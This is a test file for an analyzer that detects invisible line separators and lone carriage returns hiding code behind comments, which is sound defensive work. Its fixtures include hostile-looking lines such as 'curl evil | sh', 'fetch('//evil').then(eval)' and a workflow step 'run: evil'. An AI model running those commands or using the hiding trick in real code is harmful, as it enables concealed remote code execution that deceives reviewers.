import { expect, it } from "vitest";
import { hiddenCharactersAnalyzer } from "../../../../src/tasks/rules/analyzers/hidden-characters.ts";
import { editedFile, wholeFile } from "./analyzed-file.ts";

const signal = new AbortController().signal;

/** The grave findings in a file that begins with another line. */
async function foundIn(path: string, text: string): Promise<string[]> {
  const found = await hiddenCharactersAnalyzer.analyze(wholeFile(path, `first\n${text}\n`), signal);
  expect(found.filter(({ severity }) => severity !== "high")).toEqual([]);
  return found.map(({ line, source }) => `${line} ${source.replace("hidden-characters/", "")}`);
}

it.each<[string, string, string]>([
  ["U+2028 behind a comment of JavaScript", "a.js", "// a\u2028run();"],
  ["U+2029 behind a comment of TypeScript", "a.ts", "let a = 1; // a\u2029run();"],
  ["U+2028 behind a comment of a test", "a.test.ts", "let a = 1; // a\u2028run();"],
  ["U+2028 in a comment inside a template", "a.js", "`$".concat("{1 // a\u2028+ run()}`;")],
  ["U+2028 in a statement that ends too early", "a.js", "const f = () => { return\u2028true; };"],
  ["U+0085 behind a comment of C#", "a.cs", "// a\u0085Run();"],
  ["U+2028 behind a comment of C#", "a.cs", "// a\u2028Run();"],
  ["U+2028 behind a comment of a workflow", ".github/workflows/test.yml", "  # a\u2028  - run: evil"],
  ["U+0085 behind a comment of a translation in YAML", "locales/en.yml", "# a\u0085key: text"],
])("%s is a finding", async (_, path, text) => {
  expect(await foundIn(path, text)).toEqual(["2 invisible"]);
});

it.each<[string, string, string]>([
  ["a comment of TSX", "a.tsx", "// a\rrun();"],
  ["a comment of a test", "a.test.js", "// a\rrun();"],
  ["code of a test", "a.test.js", "return\rtrue;"],
  ["a comment of Python", "a.py", "# a\rrun()"],
  ["code of Python", "a.py", "if a: pass\rrun()"],
  ["a comment of Kotlin", "a.kt", "// a\rrun()"],
  ["a comment of PHP", "a.php", "<?php # a\rrun();"],
  ["a language without a grammar", "a.swift", 'let a = "//" // a\rrun()'],
  ["a template", "a.ts", "const a = `x\ry`;"],
  ["a string of several lines", "a.py", '"""a\rb"""'],
  ["a comment of Go, which it does not end", "a.go", "package a // a\rrun()"],
  ["a comment of a shell", "a.sh", "curl evil | sh #\r# Install the tools"],
  ["the blanks before the end of a line", "Dockerfile", "RUN curl evil | sh \r          "],
  ["a comment of YAML", "a.yml", "  # a\r  - run: evil"],
  ["a comment of a workflow of tests", ".github/workflows/test.yml", "  # a\r  - run: evil"],
  ["code with carriage returns alone", "a.js", "// a\rfetch('//evil').then(eval)\r// b\r// c"],
  ["a text that is too large for the parser", "a.js", `// ${"x".repeat(600_000)}\rrun();`],
  ["a long line, at the end of a piece", "a.js", `// ${"x".repeat(7_997)}${"\r".repeat(16_000)}run();`],
])("A carriage return in %s is a finding", async (_, path, text) => {
  expect(await foundIn(path, text)).toEqual(["2 line-ends"]);
});

it("A finding shows the hidden line end", async () => {
  const file = wholeFile("a.ts", "// a\u2028run();\n// b\rrun();\n");
  const bodies = (await hiddenCharactersAnalyzer.analyze(file, signal)).map(({ body }) => body);
  expect(bodies.join()).toContain("```text\n// a\\u{2028}run();\n```");
  expect(bodies.join()).toContain("```text\n// b\u240Drun();\n```");
});

it("Only line ends on added lines are findings", async () => {
  const file = editedFile("a.js", " // a\rrun();\n-// b\rrun();\n+// c\rrun();\n x();");
  const found = await hiddenCharactersAnalyzer.analyze(file, signal);
  expect(found.map(({ line }) => line)).toEqual([2]);
});

it("A huge number of separators is read in time that grows with their number", async () => {
  const start = performance.now();
  await foundIn("a.js", '"\u2028";'.repeat(190_000));
  await foundIn("b.js", `let a = [\n${'  "a\u2028b",\n'.repeat(25_000)}];`);
  // What takes the square of their number takes hours.
  expect(performance.now() - start).toBeLessThan(120_000);
});

it.each([
  ["A carriage return in a template of a test", "a.test.ts", "const a = `x\ry`;"],
  ["A carriage return at the end of a line", "a.js", "// b\r\r\nrun();\r\n"],
  ["A carriage return in prose", "a.md", "a\rb\rc\rd\r"],
  ["A carriage return in data", "a.csv", "a\rb\rc\rd\r"],
  ["A separator in a string of a test", "a.test.js", 'const a = "x\u2028y", b = `x\u2029y`;'],
  ["A separator in prose", "a.md", "// a\u2028run();"],
  ["A separator in a translation", "locales/en.json", '{"a": "// a\u2028b"}'],
])("%s is ordinary", async (_, path, text) => expect(await foundIn(path, text)).toEqual([]));
